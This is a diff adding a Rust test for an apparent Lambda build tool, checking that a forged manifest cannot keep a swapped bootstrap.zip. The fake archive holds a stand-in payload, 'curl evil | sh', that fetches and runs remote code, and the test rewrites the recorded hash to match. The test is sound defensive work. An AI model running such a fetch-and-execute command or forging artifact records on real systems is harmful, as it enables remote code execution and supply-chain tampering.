@@ -247,3 +247,36 @@ fn concurrent_runs_on_one_lambda_dir_leave_records_that_match() {
         assert!(leftovers.is_empty(), "round {round}: temporary files left");
     }
 }
+
+#[test]
+fn a_forged_manifest_does_not_get_someone_elses_zip_kept() {
+    let ws = Workspace::new();
+    let lambda = ws.root.join("out");
+    run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
+    let zip = lambda.join("alpha/bootstrap.zip");
+    let ours = std::fs::read(&zip).unwrap();
+    // Someone swaps the zip and edits the records to match it, keeping the inputs digest.
+    let theirs = {
+        let mut archive = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        archive
+            .start_file("bootstrap", zip::write::SimpleFileOptions::default())
+            .unwrap();
+        std::io::Write::write_all(&mut archive, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        archive.finish().unwrap().into_inner()
+    };
+    std::fs::write(&zip, &theirs).unwrap();
+    let digest = <sha2::Sha256 as sha2::Digest>::digest(&theirs);
+    let mut manifest = manifest(&lambda);
+    for artifact in manifest["artifacts"].as_array_mut().unwrap() {
+        if artifact["path"] == "alpha/bootstrap.zip" {
+            artifact["sha256"] = lambda_build::record::hex(&digest).into();
+            artifact["size"] = theirs.len().into();
+        }
+    }
+    std::fs::write(lambda.join("manifest.json"), manifest.to_string()).unwrap();
+
+    let again = run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
+    assert!(again.stderr.contains("wrote alpha/bootstrap.zip"), "{}", again.stderr);
+    assert_eq!(std::fs::read(&zip).unwrap(), ours, "the swapped zip was kept");
+    sha256sum_check(&lambda);
+}
